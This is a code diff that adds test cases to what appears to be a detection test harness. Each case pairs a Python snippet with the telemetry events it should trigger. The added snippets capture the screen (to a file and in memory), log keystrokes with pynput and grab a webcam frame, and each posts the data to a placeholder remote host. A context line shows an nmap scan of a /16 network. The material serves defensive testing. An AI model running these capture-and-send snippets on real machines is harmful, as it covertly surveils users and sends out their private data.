@@ -37,6 +37,26 @@ CASES: dict[str, tuple[str, list[Expected]]] = {
         "import nmap\nn = nmap.PortScanner()\nn.scan('10.0.0.0/16', '22,445', '-T4')",
         [("exec", {"Image": "nmap", "CommandLine": "nmap -T4 -p 22,445 10.0.0.0/16"})],
     ),
+    # what is taken from the person at the machine
+    "screen as a file": (
+        "import pyautogui, requests\npyautogui.screenshot('/tmp/s.png')\n"
+        f"requests.post({FAR}, files={{'f': open('/tmp/s.png', 'rb')}})",
+        [("write", {"TargetFilename": "/tmp/s.png"}), ("connect", {"SentData": "/tmp/s.png screen"})],
+    ),
+    "screen in memory": (
+        "import io, requests\nfrom PIL import ImageGrab\nb = io.BytesIO()\nImageGrab.grab().save(b, format='PNG')\n"
+        f"requests.post({FAR}, data=b.getvalue())",
+        [("connect", {"SentData": "screen"})],
+    ),
+    "keys": (
+        "import requests\nfrom pynput import keyboard\nlog = []\ndef on_press(key):\n    log.append(str(key))\n"
+        f"keyboard.Listener(on_press=on_press).start()\nrequests.post({FAR}, json=log)",
+        [("connect", {"SentData": "keystrokes"})],
+    ),
+    "camera": (
+        f"import cv2, requests\nc = cv2.VideoCapture(0)\nframe = c.read()\nrequests.post({FAR}, data=frame)",
+        [("connect", {"SentData": "camera"})],
+    ),
     # what functions of the source give back
     "generator of paths": (
         "from pathlib import Path\ndef every():\n    for d in ('.a', '.b'):\n"
